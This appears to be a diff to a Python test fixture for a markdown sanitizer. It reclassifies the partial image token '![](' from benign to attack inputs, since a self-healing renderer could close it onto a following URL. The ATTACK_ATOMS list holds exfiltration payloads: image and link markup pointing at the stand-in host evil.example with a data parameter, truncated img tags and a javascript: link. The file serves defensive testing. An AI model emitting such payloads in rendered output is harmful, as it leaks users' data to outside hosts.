@@ -18,8 +18,9 @@ HONEST_ATOMS = [
     "[ref][r]", "[r]", "x < y", "a & b", "[sic]", "array[0]", "(paren)", "!", "<kbd>K</kbd>",
     "<br>", "see [1]", "---", "# Title", "| a | b |", "|---|---|", "```", "~~~", "    indented",
     "\\*escaped\\*", "&copy;", "&amp;", "someone@example.com", "\u00e9t\u00e9", "\t", "  ",
-    "[link](#anchor)", "[a](./b.md 'title')", "![](", "[", "]", "(", ")", "<!-- c -->",
+    "[link](#anchor)", "[a](./b.md 'title')", "[", "]", "(", ")", "<!-- c -->",
 ]  # fmt: skip
+# Not honest: a self-healing renderer closes `![](` onto whatever URL follows.
 ATTACK_ATOMS = [
     "![x](https://evil.example/p.png)",
     f"![x](https://evil.example/p.png?d={PAYLOAD})",
@@ -34,9 +35,10 @@ ATTACK_ATOMS = [
     f"https://evil.example/?d={PAYLOAD}",
     "![a](http://evil.example/a b.png)",
     "![a](//evil.example/x.png",
-    "<img src=\"https://evil.example/cut.png",
+    '<img src="https://evil.example/cut.png',
     "<!--",
     "[x](javascript:alert(1))",
+    "![](",
 ]
 PREFIXES = ["", "> ", "> > ", "- ", "1. ", "  ", "\t", "# ", "| "]
 SEPARATORS = [" ", "\n", "\n\n", ""]
